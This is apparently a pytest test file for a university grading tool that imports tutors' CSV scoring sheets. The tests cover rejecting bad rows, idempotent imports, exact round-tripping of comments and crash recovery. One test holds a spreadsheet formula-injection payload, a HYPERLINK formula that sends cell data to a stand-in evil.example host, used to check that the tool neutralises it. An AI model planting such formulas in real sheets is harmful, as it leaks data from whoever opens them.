"""Importing the tutors' scoring sheet: the whole loop on a graded batch (slow), and every kind of
bad sheet on a synthetic output folder (fast): the row is named and nothing changes."""
from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import sqlite3
from pathlib import Path

import pytest
from builders import notebook_bytes, set_answer, set_group, solution, write_notebook, write_zip
from hypothesis import given, settings
from hypothesis import strategies as st

import grader.folder.outdir
from grader.batch.run import BatchSettings, run_batch
from grader.errors import OutputFolderError, ResultFormatError
from grader.folder.gradebook import Gradebook
from grader.folder.grades import restore
from grader.folder.outdir import OutDir
from grader.pages.markdown import render_comment
from grader.result import SubmissionResult
from grader.rubric import AUTO_IDS, QUESTION_IDS, WRITTEN_IDS, load_rubric
from grader.tutors.review import write_review
from grader.tutors.scores import SheetError, import_sheet

MEMBERS = [[("Ada Lovelace", "2571234", "ada@uni.example"), ("Alan Turing", "2579876", "alan@uni.example")],
           [("Grace Hopper", "2570001", "grace@uni.example"), ("Edsger Dijkstra", "2570002", "ed@uni.example")],
           [("Emmy Noether", "2570003", "emmy@uni.example"), ("Kurt Goedel", "2570004", "kurt@uni.example")]]


def fake_result(folder: str, members: list[tuple[str, str, str]], answer: str = "A CNN uses local filters; "
                "an RNN keeps a hidden state over a sequence.", status: str = "graded") -> dict:
    """A result.json as grading writes it (contract §6 plus what a report reads)."""
    rubric = load_rubric()
    questions = {}
    for qid in QUESTION_IDS:
        q = rubric.questions[qid]
        if qid in AUTO_IDS:
            questions[qid] = {"title": q.title, "points": q.points if status == "graded" else 0.0,
                              "max_points": q.points, "status": "auto", "checks": []}
        else:
            questions[qid] = {"title": q.title, "points": 0.0, "max_points": q.points, "status": "pending",
                              "words": len(answer.split()), "sentences": 2,
                              "concepts_found": ["one"], "concepts_missing": ["two", "three"],
                              "answer": {"markdown": f"{answer} ({qid})", "found_by": "tag", "over_limit_at": None,
                                         "visible": answer, "notes": [], "attachments": {}}}
    return {"submission": f"{folder}.ipynb", "status": status,
            "group": [{"name": n, "student_id": i, "email": e} for n, i, e in members],
            "points": 4.0 if status == "graded" else 0.0, "max_points": 10.0, "questions": questions,
            "flags": [], "sha256": hashlib.sha256(folder.encode()).hexdigest(), "rubric_sha256": rubric.sha256,
            "notebook": f"{folder}.ipynb", "other_files": [], "seconds": 1.0, "folder": folder, "cells": [],
            **({"message": "kernel died"} if status != "graded" else {})}


def fake_output(out: Path, results: list[dict]) -> Path:
    """An output folder as a batch leaves it, written through the folder's one owner."""
    folder = OutDir(out, create=True)
    typed = [SubmissionResult.from_json(data) for data in results]
    for result in typed:
        folder.write_submission(result)
    folder.write_batch(typed, load_rubric(), "")
    return out


def _standard(tmp_path: Path) -> Path:
    return fake_output(tmp_path / "out", [fake_result("Lovelace_2571234_Turing_2579876", MEMBERS[0]),
                                          fake_result("Hopper_2570001_Dijkstra_2570002", MEMBERS[1]),
                                          fake_result("Noether_2570003_Goedel_2570004", MEMBERS[2], status="error")])


def _snapshot(out: Path) -> dict[str, bytes]:
    files = {str(p.relative_to(out)): p.read_bytes() for p in sorted(out.rglob("*"))
             if p.is_file() and not p.name.startswith("gradebook")}
    if (out / "gradebook.sqlite").exists():
        db = sqlite3.connect(out / "gradebook.sqlite")
        for table in ("manual_scores", "score_history"):
            files[table] = repr(db.execute(f"SELECT * FROM {table}").fetchall()).encode()
        db.close()
    return files


def _write_sheet(path: Path, rows: list[dict]) -> Path:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, fieldnames=["folder", "submission", "question", "max_points", "suggested",
                                             "points", "comment"], lineterminator="\n")
    writer.writeheader()
    for r in rows:
        writer.writerow({k: r.get(k, "") for k in writer.fieldnames})
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


GOOD = {"folder": "Lovelace_2571234_Turing_2579876", "question": "11.2.1", "points": "0.5", "comment": "fine"}


@pytest.mark.parametrize("bad, row_says", [
    ({"folder": "Nobody_1_Else_2"}, "unknown submission folder 'Nobody_1_Else_2'"),
    ({"folder": "", "submission": "Nobody_1_Else_2.zip"}, "unknown submission 'Nobody_1_Else_2.zip'"),
    ({"points": "0.8"}, "above the maximum 0.5 of 11.1.1"),
    ({"points": "-0.25"}, "negative"),
    ({"points": "half"}, "'half' is not a number"),
    ({"points": "nan"}, "is not a number"),
    ({"question": "11.9.9"}, "unknown question '11.9.9'"),
    ({"question": "11.4.a"}, "graded automatically"),
    ({"folder": "Noether_2570003_Goedel_2570004"}, "was not graded"),
    ({"points": "", "comment": "where are the points?"}, "a comment but no points"),
])
def test_a_bad_row_is_named_and_nothing_is_imported(tmp_path: Path, bad: dict, row_says: str) -> None:
    out = _standard(tmp_path)
    before = _snapshot(out)
    rows = [dict(GOOD), dict(GOOD, folder="Hopper_2570001_Dijkstra_2570002"),
            {**GOOD, "question": "11.1.1", **bad}]
    with pytest.raises(SheetError) as info:
        import_sheet(_write_sheet(tmp_path / "sheet.csv", rows), OutDir(out), tutor="ada")
    line = [p for p in info.value.problems if p.startswith("row 4:")]
    assert line and row_says in line[0], info.value.problems
    assert "nothing was imported" in str(info.value)
    assert len(info.value.problems) == 1
    assert _snapshot(out) == before  # the two good rows were not imported either


def test_every_problem_of_a_sheet_is_listed_with_its_row(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    rows = [dict(GOOD, points="x"), dict(GOOD, question="11.1.1"), dict(GOOD, question="11.1.1", points="0.25"),
            dict(GOOD, folder="Zed")]
    with pytest.raises(SheetError) as info:
        import_sheet(_write_sheet(tmp_path / "s.csv", rows), OutDir(out))
    text = str(info.value)
    assert "row 2: points 'x' is not a number" in text
    assert "row 4: 11.1.1 of 'Lovelace_2571234_Turing_2579876.ipynb' is scored again (first in row 3)" in text
    assert "row 5: unknown submission folder 'Zed'" in text


def test_import_is_idempotent_and_a_later_sheet_wins_with_history(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    sheet = _write_sheet(tmp_path / "s.csv", [GOOD, dict(GOOD, question="11.1.1", points="0,25", comment="")])
    first = import_sheet(sheet, OutDir(out), tutor="ada")
    assert len(first.changed) == 2 and first.rewritten == ["Lovelace_2571234_Turing_2579876"]
    data = json.loads((out / GOOD["folder"] / "result.json").read_text())
    assert data["questions"]["11.2.1"]["status"] == "manual" and data["questions"]["11.2.1"]["points"] == 0.5
    assert data["questions"]["11.2.1"]["comment"] == "fine" and data["questions"]["11.2.1"]["scored_by"] == "ada"
    assert data["points"] == 4.75
    snap = _snapshot(out)
    again = import_sheet(sheet, OutDir(out), tutor="bob")
    assert again.changed == [] and again.rewritten == []
    assert _snapshot(out) == snap

    later = _write_sheet(tmp_path / "later.csv", [dict(GOOD, points="0.75", comment="on reflection: full marks")])
    import_sheet(later, OutDir(out), tutor="bob")
    data = json.loads((out / GOOD["folder"] / "result.json").read_text())
    assert data["questions"]["11.2.1"]["points"] == 0.75 and data["points"] == 5.0
    assert data["questions"]["11.1.1"]["points"] == 0.25  # not in the later sheet: kept
    with Gradebook(out / "gradebook.sqlite") as book:
        history = [h for h in book.history(GOOD["folder"]) if h["question"] == "11.2.1"]
    assert [(h["old_points"], h["new_points"], h["tutor"], h["sheet"]) for h in history] == \
        [(None, 0.5, "ada", "s.csv"), (0.5, 0.75, "bob", "later.csv")]
    assert "on reflection: full marks" in (out / GOOD["folder"] / "report.html").read_text()
    grades = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text())))
    ada = [g for g in grades if g["student_id"] == "2571234"][0]
    assert ada["11.2.1"] == "0.75" and ada["points"] == "5"


def test_a_sheet_needs_its_columns(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    sheet = tmp_path / "s.csv"
    sheet.write_text("who,what\nx,y\n")
    with pytest.raises(SheetError, match="row 1 .*question, points"):
        import_sheet(sheet, OutDir(out))


# -- the whole loop on a graded batch ---------------------------------------------------------------
def _submissions(tmp_path: Path) -> list[str]:
    """Three fast, distinct, correctly named submissions (the reference solution with train_recall
    stubbed, so grading takes seconds)."""
    src = tmp_path / "in"
    names = ["Lovelace_2571234_Turing_2579876", "Hopper_2570001_Dijkstra_2570002", "Noether_2570003_Goedel_2570004"]
    for i, (name, members) in enumerate(zip(names, MEMBERS)):
        nb = set_group(solution(fast=True), members)
        set_answer(nb, "11.1.1", f"Group {i}: the final hidden state is dominated by the last words, "
                                 "so the early negative part is forgotten.")
        if i == 0:
            write_zip(src / f"{name}.zip", {"sheet11.ipynb": notebook_bytes(nb)})
        else:
            write_notebook(nb, src / f"{name}.ipynb")
    return [str(src / "*")]


@pytest.mark.slow
def test_the_tutor_loop_grade_review_score_import(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_batch(_submissions(tmp_path), BatchSettings.make(out))
    review = write_review(out)
    assert sorted(p.name for p in review.pages) == sorted(f"{q}.html" for q in WRITTEN_IDS)
    rows = list(csv.DictReader(io.StringIO(review.sheet.read_text())))
    assert len(rows) == 3 * len(WRITTEN_IDS) and all(r["points"] == "" for r in rows)
    for r in rows:  # the tutor fills in every row; the suggestion as points, a comment on 11.1.1
        r["points"] = r["suggested"] or "0"
        if r["question"] == "11.1.1":
            r["comment"] = f"Right <b>idea</b> for {r['folder']}"
    sheet = _write_sheet(tmp_path / "filled.csv", rows)
    import_sheet(sheet, OutDir(out), tutor="ada")

    from grader.checks.secret import load_secret
    from grader.tutors.privacy import pseudonyms
    typed = OutDir(out).results()
    labels = pseudonyms(load_secret(), [r.folder for r in typed])  # the blind sheet's names
    by_submission = {r.submission: labels[r.folder] for r in typed}
    grades = list(csv.DictReader(io.StringIO((out / "grades.csv").read_text())))
    assert len(grades) == 6
    for g in grades:
        mine = [r for r in rows if r["folder"] == by_submission[g["submission"]]]
        for r in mine:
            assert float(g[r["question"]]) == float(r["points"])
        auto = sum(float(g[q]) for q in AUTO_IDS)
        assert float(g["points"]) == pytest.approx(auto + sum(float(r["points"]) for r in mine))
    for folder in ("Lovelace_2571234_Turing_2579876", "Hopper_2570001_Dijkstra_2570002"):
        data = json.loads((out / folder / "result.json").read_text())
        assert all(data["questions"][q]["status"] == "manual" for q in WRITTEN_IDS)
        html = (out / folder / "report.html").read_text()
        assert f"Right &lt;b&gt;idea&lt;/b&gt; for {labels[folder]}" in html
    assert "Lovelace_2571234_Turing_2579876.zip" in [g["submission"] for g in grades]
    snap = _snapshot(out)
    import_sheet(sheet, OutDir(out), tutor="ada")
    assert _snapshot(out) == snap

    # a rubric fix: re-grading keeps the tutors' scores and says what changed
    rubric = (Path(__file__).resolve().parent.parent / "rubrics" / "sheet11.toml").read_text()
    fixed = tmp_path / "fixed.toml"
    fixed.write_text(rubric.replace('function = "rnn_forward"\npoints = 1.0\nrtol = 1e-4\natol = 1e-5',
                                    'function = "rnn_forward"\npoints = 1.0\nrtol = 1e-30\natol = 1e-30'))
    assert fixed.read_text() != rubric
    again = run_batch([str(tmp_path / "in" / "*")], BatchSettings.make(out, rubric_path=str(fixed), regrade=True))
    data = json.loads((out / "Hopper_2570001_Dijkstra_2570002" / "result.json").read_text())
    assert all(data["questions"][q]["status"] == "manual" for q in WRITTEN_IDS)
    assert data["questions"]["11.1.1"]["comment"].startswith("Right <b>idea</b>")
    moved = {c["folder"]: c["questions"] for c in again.changes}
    if data["questions"]["11.4.a"]["points"] != 1.0:  # float32 results cannot meet a tolerance of 1e-30
        assert moved["Hopper_2570001_Dijkstra_2570002"]["11.4.a"] == [1.0, data["questions"]["11.4.a"]["points"]]
    with sqlite3.connect(out / "gradebook.sqlite") as db:
        assert db.execute("SELECT COUNT(DISTINCT run_id) FROM run_results").fetchone()[0] == 2
    assert [r.folder for r in OutDir(out).results()] == [r["folder"] for r in again.results]
    from grader.tutors.verify import verify  # two runs, a sheet imported twice, a re-grade: all by grade
    verdict = verify(OutDir(out), load_secret())
    assert verdict.ok, verdict.problems


# -- the sheet round-trips exactly, whoever wrote it -----------------------------------------------
def _sheet_bytes(rows: list[list[str]], writer: str) -> bytes:
    """A scoring sheet as a spreadsheet saves it."""
    buf = io.StringIO(newline="")
    if writer == "excel":      # Excel (German locale): ';', CRLF, a BOM, ',' decimals
        csv.writer(buf, delimiter=";", lineterminator="\r\n").writerows(
            [[c.replace(".", ",") if i == 5 else c for i, c in enumerate(r)] for r in rows])
        return b"\xef\xbb\xbf" + buf.getvalue().encode("utf-8")
    if writer == "libreoffice":  # every text cell quoted, LF
        csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC, lineterminator="\n").writerows(rows)
        return buf.getvalue().encode("utf-8")
    csv.writer(buf).writerows(rows)  # Python's csv: ',', CRLF, quotes only where needed
    return buf.getvalue().encode("utf-8")


_TRICKY = st.sampled_from(['"', '""', ",", ";", "\n", "\r\n", "=", "+", "-", "@", "'", "\t", " ", "ä", "€", "漢",
                           "<b>", "&amp;", "Say \"why\", please."])
COMMENTS = st.lists(st.one_of(_TRICKY, st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8)),
                    max_size=8).map("".join).filter(lambda c: restore(c) == c)
# The one exception, by design: a cell "'=..." is read as "=..." - it is how `grade review` writes a
# comment that starts with = + - @ (and how a spreadsheet shows such text), see grader/folder/grades.py.


_ROUND_TRIP: dict[str, Path] = {}
SHEET = ("folder", "submission", "question", "max_points", "suggested", "points", "comment")


@settings(max_examples=25, deadline=None)
@given(comment=COMMENTS, writer=st.sampled_from(["excel", "libreoffice", "python"]))
def test_a_comment_round_trips_exactly(tmp_path_factory, comment: str, writer: str) -> None:
    if "out" not in _ROUND_TRIP:  # one folder for every example: each sheet is a later one and wins
        _ROUND_TRIP["out"] = _standard(tmp_path_factory.mktemp("rt"))
    out = _ROUND_TRIP["out"]
    header = ["folder", "submission", "question", "max_points", "suggested", "points", "comment"]
    rows = [header, [GOOD["folder"], "", "11.2.1", "0.5", "0.25", "0.5", comment],
            [GOOD["folder"], "", "11.1.1", "0.5", "", "0.25", "plain"]]
    sheet = out.parent / "scores.csv"
    sheet.write_bytes(_sheet_bytes(rows, writer))
    import_sheet(sheet, OutDir(out), tutor="ada")
    with Gradebook(out / "gradebook.sqlite") as book:
        stored = book.manual_scores()[GOOD["folder"]]
    assert stored["11.2.1"]["comment"] == comment and stored["11.2.1"]["points"] == 0.5
    assert stored["11.1.1"]["comment"] == "plain" and stored["11.1.1"]["points"] == 0.25
    data = json.loads((out / GOOD["folder"] / "result.json").read_text(encoding="utf-8"))
    assert data["questions"]["11.2.1"].get("comment", "") == comment
    if comment.strip():  # the report shows it as the tutor's markdown (grader/pages/markdown.py)
        assert str(render_comment(comment)) in (out / GOOD["folder"] / "report.html").read_bytes().decode("utf-8")


def test_an_apostrophe_before_a_formula_character_is_the_sheets_escape(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    sheet = tmp_path / "s.csv"
    sheet.write_bytes(_sheet_bytes([list(SHEET),
                                    [GOOD["folder"], "", "11.2.1", "0.5", "", "0.5", "'=1+2"],
                                    [GOOD["folder"], "", "11.1.1", "0.5", "", "0.5", "'plain"]], "python"))
    import_sheet(sheet, OutDir(out), tutor="ada")
    with Gradebook(out / "gradebook.sqlite") as book:
        stored = book.manual_scores()[GOOD["folder"]]
    assert stored["11.2.1"]["comment"] == "=1+2" and stored["11.1.1"]["comment"] == "'plain"


@pytest.mark.parametrize("comment", ['=HYPERLINK("http://evil.example/?x="&A1,"Ada")', "=1+2", "@x",
                                     'Say "why", please.\r\nline two; three, four', "-0.5", "+ ok", "\tTab"])
def test_the_sheet_of_grade_review_round_trips_a_comment(tmp_path: Path, comment: str) -> None:
    """`grade review` neutralises cells for spreadsheets; importing its sheet restores them."""
    out = _standard(tmp_path)
    sheet = tmp_path / "s.csv"
    sheet.write_bytes(_sheet_bytes([list(SHEET),
                                    [GOOD["folder"], "", "11.2.1", "0.5", "", "0.5", comment]], "python"))
    import_sheet(sheet, OutDir(out), tutor="ada")
    again = write_review(out).sheet
    text = again.read_text(encoding="utf-8")
    for row in csv.reader(io.StringIO(text, newline="")):
        assert all(not c or c[0] not in "=+-@\t\r" or re.fullmatch(r"[+-]?[\d.]+", c) for c in row), row
    assert import_sheet(again, OutDir(out), tutor="bob").changed == []
    with Gradebook(out / "gradebook.sqlite") as book:
        assert book.manual_scores()[GOOD["folder"]]["11.2.1"]["comment"] == comment


def test_an_excel_sheet_with_a_quoted_multiline_comment(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    sheet = tmp_path / "excel.csv"
    sheet.write_bytes(b"\xef\xbb\xbffolder;submission;question;max_points;suggested;points;comment\r\n"
                      + f"{GOOD['folder']};;11.2.1;0,5;;0,5;\"Say \"\"why\"\", please.\nAnd; more, =1+2\"\r\n".encode())
    import_sheet(sheet, OutDir(out), tutor="ada")
    data = json.loads((out / GOOD["folder"] / "result.json").read_text())
    assert data["questions"]["11.2.1"]["comment"] == 'Say "why", please.\nAnd; more, =1+2'
    assert data["questions"]["11.2.1"]["points"] == 0.5


def test_a_report_that_cannot_be_drawn_does_not_stop_the_import(tmp_path: Path, monkeypatch) -> None:
    out = _standard(tmp_path)

    def broken(data):
        raise ValueError("math domain error")
    monkeypatch.setattr(grader.folder.outdir, "render_pages", broken)
    outcome = import_sheet(_write_sheet(tmp_path / "s.csv", [GOOD]), OutDir(out), tutor="ada")
    assert GOOD["folder"] in outcome.rewritten
    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "manual"
    assert "could not be drawn" in (out / GOOD["folder"] / "report.html").read_text()
    ada = [g for g in csv.DictReader(io.StringIO((out / "grades.csv").read_text())) if g["student_id"] == "2571234"]
    assert ada[0]["11.2.1"] == "0.5"


def test_a_crash_after_the_commit_is_repaired_by_the_next_run(tmp_path: Path, monkeypatch) -> None:
    out = _standard(tmp_path)
    sheet = _write_sheet(tmp_path / "s.csv", [GOOD])
    real = OutDir.write_submission

    def crash(self, result, pages=None, redraw=False):
        raise OSError(28, "No space left on device")
    monkeypatch.setattr(OutDir, "write_submission", crash)
    with pytest.raises(OSError):
        import_sheet(sheet, OutDir(out), tutor="ada")
    with Gradebook(out / "gradebook.sqlite") as book:  # committed ...
        assert book.manual_scores()[GOOD["folder"]]["11.2.1"]["points"] == 0.5
    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "pending"
    monkeypatch.setattr(OutDir, "write_submission", real)
    again = import_sheet(sheet, OutDir(out), tutor="ada")  # ... and the next import writes what is missing
    assert again.changed == [] and again.rewritten == [GOOD["folder"]]
    assert json.loads((out / GOOD["folder"] / "result.json").read_text())["questions"]["11.2.1"]["status"] == "manual"
    ada = [g for g in csv.DictReader(io.StringIO((out / "grades.csv").read_text())) if g["student_id"] == "2571234"]
    assert ada[0]["11.2.1"] == "0.5"


def test_an_unreadable_result_is_named_not_dropped(tmp_path: Path) -> None:
    out = _standard(tmp_path)
    (out / "Hopper_2570001_Dijkstra_2570002" / "result.json").write_text("{ not json")
    with pytest.raises(OutputFolderError, match="Hopper_2570001_Dijkstra_2570002/result.json"):
        import_sheet(_write_sheet(tmp_path / "s.csv", [GOOD]), OutDir(out))
    with pytest.raises(OutputFolderError, match="Hopper_2570001_Dijkstra_2570002/result.json"):
        write_review(out)


def test_typed_results_round_trip_through_json() -> None:
    for status in ("graded", "error"):
        data = fake_result("Lovelace_2571234_Turing_2579876", MEMBERS[0], status=status)
        typed = SubmissionResult.from_json(data)
        assert SubmissionResult.from_json(typed.to_json()) == typed
        assert typed.to_json() == SubmissionResult.from_json(typed.to_json()).to_json()
    with pytest.raises(ResultFormatError, match="status"):
        SubmissionResult.from_json({**data, "status": "great"})
    with pytest.raises(ResultFormatError, match="questions.11.1.1.points"):
        bad = json.loads(json.dumps(data))
        bad["questions"]["11.1.1"]["points"] = "lots"
        SubmissionResult.from_json(bad)


def test_a_checks_findings_survive_the_round_trip() -> None:
    data = fake_result("Lovelace_2571234_Turing_2579876", MEMBERS[0])
    data["questions"]["11.4.a"]["checks"] = [{
        "name": "rnn_forward, case 1 (T=3)", "passed": False, "points": 0.0, "max_points": 0.25, "message": "m",
        "mistakes": [], "function": "rnn_forward", "case": 1, "params": "T=3", "shapes": "x (3, 2)",
        "expected": "e", "got": "g", "max_abs": 0.5, "max_rel": None, "series": {"a": [1.0, 2.0]},
        "consistent_with": ["no_recurrence", "ignores_h0"], "diagnosis": "the recurrence is missing",
        "probes": [{"setting": "U = 0", "isolates": "recurrence", "outcome": "differs", "text": "t"}]}]
    assert SubmissionResult.from_json(data).to_json()["questions"]["11.4.a"] == data["questions"]["11.4.a"]
